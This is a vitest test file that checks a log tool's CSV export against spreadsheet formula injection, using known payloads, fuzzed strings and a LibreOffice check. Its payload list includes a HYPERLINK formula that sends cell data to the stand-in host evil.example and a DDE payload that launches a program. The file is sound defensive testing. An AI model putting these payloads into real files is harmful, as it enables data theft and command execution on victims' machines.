import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openLog } from '../../electron/core/log/log.ts';
import { makeFolder, runCli } from '../support/station.ts';

const { folder, remove } = makeFolder();
const csv = join(folder, 'log.csv');
const rows: string[][] = [];
const written: string[] = [];

/** Texts that a spreadsheet would calculate, call a program with, or read as several cells. */
const known = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '=HYPERLINK("http://evil.example/?"&A1;"click")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1＋1',
  '"=1+1"',
  '","=1+1',
  ';=1+1;',
  '\0=1+1',
  "'=1+1",
];

/** A text of pieces that matter to spreadsheets, the same for the same seed (mulberry32). */
function fuzz(seed: number): string {
  const pieces = [
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '\n',
    ' ',
    '"',
    "'",
    ',',
    ';',
    '|',
    '1',
    'SUM(A1)',
    '😀',
    'ß',
    '\ufeff',
    '\u202e',
  ];
  let state = seed;
  const next = (below: number) => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
  return Array.from({ length: 1 + next(8) }, () => pieces[next(pieces.length)]).join('');
}

/** Cells as RFC 4180 has them. Throws on a quote in the wrong place. */
function parse(text: string): string[][] {
  const found: string[][] = [[]];
  for (const [whole, quoted, bare, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy)) {
    if (whole === '') break;
    found.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare ?? '');
    if (end === '\r\n') found.push([]);
  }
  const length = found.flat().reduce((sum, cell) => sum + cell.length, 0);
  if (length === 0) throw new Error('not RFC 4180');
  return found.slice(0, -1);
}

beforeAll(async () => {
  written.push(...known, ...Array.from({ length: 2000 }, (_, seed) => fuzz(seed)));
  const opened = openLog(folder, { now: () => Date.UTC(2019, 8, 24, 9) });
  if (!opened.ok) throw new Error(opened.error.message);
  const actor = { person: '=cmd', name: '+Mallory', desk: '@desk' };
  await opened.value.append(
    written.map((text) => ({ kind: 'note.added', subject: 'incident/-INC', actor, data: { text } }) as const),
  );
  opened.value.close();
  const made = await runCli(['log', 'export', '--data', folder, '--format', 'csv', '--out', csv]);
  if (made.code !== 0) throw new Error(made.stderr);
  rows.push(...parse(readFileSync(csv, 'utf8')));
});
afterAll(remove);

test(`${known.length} known and 2,000 random texts: one row an entry, no cell begins like a formula`, () => {
  expect(rows.length).toBe(written.length + 1);
  expect(new Set(rows.map((row) => row.length))).toEqual(new Set([12]));
  const formulas = rows.flat().filter((cell) => /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/.test(cell));
  expect(formulas).toEqual([]);
});

test('the exact text of each is in the data column', () => {
  const data = rows.slice(1).map((row) => JSON.parse(row[10] ?? '') as { text: string });
  expect(data.map(({ text }) => text)).toEqual(written);
});

const office = ['soffice', 'libreoffice'].find((name) => spawnSync(name, ['--version']).error === undefined);
const why = office === undefined ? ' (skipped: there is no LibreOffice here)' : '';

describe.skipIf(office === undefined)(`LibreOffice${why}`, () => {
  test('opens the table, calculates nothing and keeps its rows', () => {
    const profile = `-env:UserInstallation=${pathToFileURL(join(folder, 'office'))}`;
    const args = [profile, '--headless', '--convert-to', 'fods', '--infilter=CSV:44,34,76,1', '--outdir', folder, csv];
    const converted = spawnSync(office ?? '', args, { encoding: 'utf8', timeout: 120_000 });
    expect(converted.stderr + converted.stdout).toContain('log.fods');
    const sheet = readFileSync(join(folder, 'log.fods'), 'utf8');
    expect(sheet).not.toContain('table:formula');
    expect(sheet).not.toContain('text:a ');
    expect(sheet.match(/<table:table-row /g)?.length).toBeGreaterThanOrEqual(written.length);
  }, 180_000);
});
